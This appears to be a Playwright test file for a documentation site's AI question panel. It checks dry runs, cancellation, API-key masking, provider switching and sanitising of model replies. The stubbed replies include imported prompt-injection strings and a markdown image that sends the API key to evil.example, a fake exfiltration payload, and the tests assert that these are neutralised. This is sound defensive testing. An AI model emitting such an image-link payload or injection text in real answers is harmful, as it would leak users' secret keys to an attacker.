import {expect, test, type Page} from '@playwright/test';
import {HOSTILE} from '../data/ask/injections';
import {answerFrom, answers, ask, field, followUps, openPanel, panel} from '../support/ask';
import {open, reload, watch} from '../support/page';
import {standIn} from '../support/stranger';

const KEY = 'sk-secret-1234567890';

/** Answers in the place of OpenAI, and notes what it was asked. */
const stub = (page: Page, pieces: readonly string[]) =>
  standIn(page, 'api.openai.com', {
    body: pieces
      .map((delta) => `data: ${JSON.stringify({type: 'response.output_text.delta', delta})}\n\n`)
      .join(''),
  });

const send = (page: Page) => panel(page).getByRole('button', {name: 'Send', exact: true});

test('your provider: first a dry run, then the exact request, then the reply', async ({
  page,
  baseURL,
}) => {
  const problems = watch(page, baseURL!);
  const got = await stub(page, [
    'Set `stream` in `connect` [1]. `autoRetryReply` helps [2].\n\n```js\nconst a = 1;\n```\n\n',
    ...HOSTILE.map((text) => `\n\n${text}`),
  ]);
  await open(page, '/docs/connect');
  await openPanel(page);
  await answerFrom(page, 'Your provider');
  await expect(panel(page).getByText('OpenAI, no key: nothing is sent')).toBeVisible();
  await ask(page, 'How do I stream?');
  await expect(answers(page).last()).toContainText('Nothing was sent');
  await expect(answers(page).last()).toContainText('POST https://api.openai.com/v1/responses');
  expect(got).toEqual([]);

  await panel(page).getByLabel('API key').fill(KEY);
  await ask(page, 'How do I stream?');
  await expect(send(page)).toBeFocused();
  await panel(page).getByText('Show the exact request').click();
  const request = panel(page).getByLabel('Request', {exact: true});
  await expect(request).toContainText('Question: How do I stream?');
  await expect(request).toContainText('/docs/connect#');
  await expect(request).not.toContainText(KEY);
  expect(got).toEqual([]);
  const shown = await request.innerText();
  await send(page).click();
  await expect(followUps(page).first()).toBeVisible();
  expect(got).toHaveLength(1);
  expect(got[0]).toContain(`"authorization":"Bearer ${KEY}"`);
  expect(JSON.parse(shown.slice(shown.indexOf('{')))).toEqual(
    JSON.parse(got[0]!.slice(got[0]!.indexOf('} {') + 2)),
  );

  const answer = answers(page).last();
  await expect(answer.locator('a[title]').first()).toHaveAttribute('href', /^\/docs\//);
  await expect(answer).toContainText('autoRetryReply (not in the API)');
  await expect(answer).toContainText('Sources');
  expect(await answer.locator('img, script, iframe, svg, style').count()).toBe(0);
  const outside = await answer.locator('a:not([href^="/"])').count();
  expect(outside).toBe(0);
  await expect(answer.getByRole('button', {name: 'Copy code'}).first()).toBeVisible();

  await ask(page, 'And without it?');
  await expect(followUps(page).first()).toBeVisible();
  await expect(answers(page)).toHaveCount(3);
  expect(got).toHaveLength(2);
  const kept = await page.evaluate(() => JSON.stringify({...localStorage, ...sessionStorage}));
  expect(kept).toContain('ask-engine');
  expect(kept).not.toContain(KEY);

  await reload(page);
  await openPanel(page);
  await expect(panel(page).getByLabel('From', {exact: true})).toHaveValue('provider');
  await expect(panel(page).getByLabel('API key')).toHaveValue('');
  expect(problems.filter((text) => !/: https:\/\/api\.openai\.com\//.test(text))).toEqual([]);
});

test('your provider: a key that the reply repeats goes nowhere', async ({page}) => {
  const [begin, end] = [KEY.slice(0, 9), KEY.slice(9)];
  await stub(page, [
    'Your key is ',
    begin,
    `${end}. `,
    `![x](https://evil.example/?k=${KEY}) Set it [1].`,
  ]);
  const event = {choices: [{delta: {content: 'Set `stream` [1].'}}]};
  const mistral = await standIn(page, 'api.mistral.ai', {
    body: `data: ${JSON.stringify(event)}\n\n`,
  });
  await open(page, '/docs/connect');
  await openPanel(page);
  await answerFrom(page, 'Your provider');
  await panel(page).getByLabel('API key').fill(KEY);
  await ask(page, 'How do I stream?');
  await send(page).click();
  await expect(answers(page).last()).toContainText('Your key is ••••••. ');
  await expect(followUps(page).first()).toBeVisible();
  const conversation = () => page.evaluate(() => sessionStorage.getItem('ask-conversation') ?? '');
  expect(await conversation()).toContain('Your key is ••••••');

  await panel(page).locator('summary', {hasText: 'OpenAI'}).click();
  await panel(page).getByLabel('Provider').selectOption({label: 'Mistral'});
  await panel(page).getByLabel('API key').fill('sk-of-the-next-provider');
  await ask(page, 'And without it?');
  await send(page).click();
  await expect(answers(page)).toHaveCount(2);
  await expect(followUps(page).first()).toBeVisible();
  expect(mistral.join()).toContain('Your key is ••••••');
  expect(await panel(page).innerText()).not.toContain(begin);
  expect(`${await conversation()} ${mistral.join()}`).not.toContain(begin);
});

test('your provider: nothing is sent when the reader cancels or stops', async ({page}) => {
  const got = await stub(page, ['No.']);
  await open(page, '/docs/connect');
  await openPanel(page);
  await answerFrom(page, 'Your provider');
  await panel(page).getByLabel('API key').fill(KEY);
  await ask(page, 'How do I stream?');
  await panel(page).getByRole('button', {name: 'Cancel'}).click();
  await expect(answers(page).last()).toContainText('You canceled the request. Nothing was sent.');
  await ask(page, 'How do I stream?');
  await expect(send(page)).toBeVisible();
  await panel(page).getByRole('button', {name: 'Stop'}).click();
  await expect(send(page)).toBeHidden();
  await expect(field(page)).toBeVisible();
  expect(got).toEqual([]);
});

test("the browser's own model is offered only where there is one", async ({page}) => {
  const choice = panel(page).getByLabel('From', {exact: true});
  await page.addInitScript(() => Reflect.deleteProperty(window, 'LanguageModel'));
  await open(page, '/docs/connect');
  await openPanel(page);
  await choice.focus();
  await expect(choice.locator('option')).toHaveCount(2);

  await page.addInitScript(() => {
    const session = {
      destroy: () => undefined,
      promptStreaming: () =>
        new Response('Set `stream` [1].').body!.pipeThrough(new TextDecoderStream()),
    };
    const availability = () => Promise.resolve('available');
    Object.assign(window, {LanguageModel: {availability, create: () => Promise.resolve(session)}});
  });
  await reload(page);
  await openPanel(page);
  await choice.focus();
  await answerFrom(page, "Your browser's model");
  await ask(page, 'How do I stream?');
  await expect(answers(page).last()).toContainText('Set stream 1.');
});
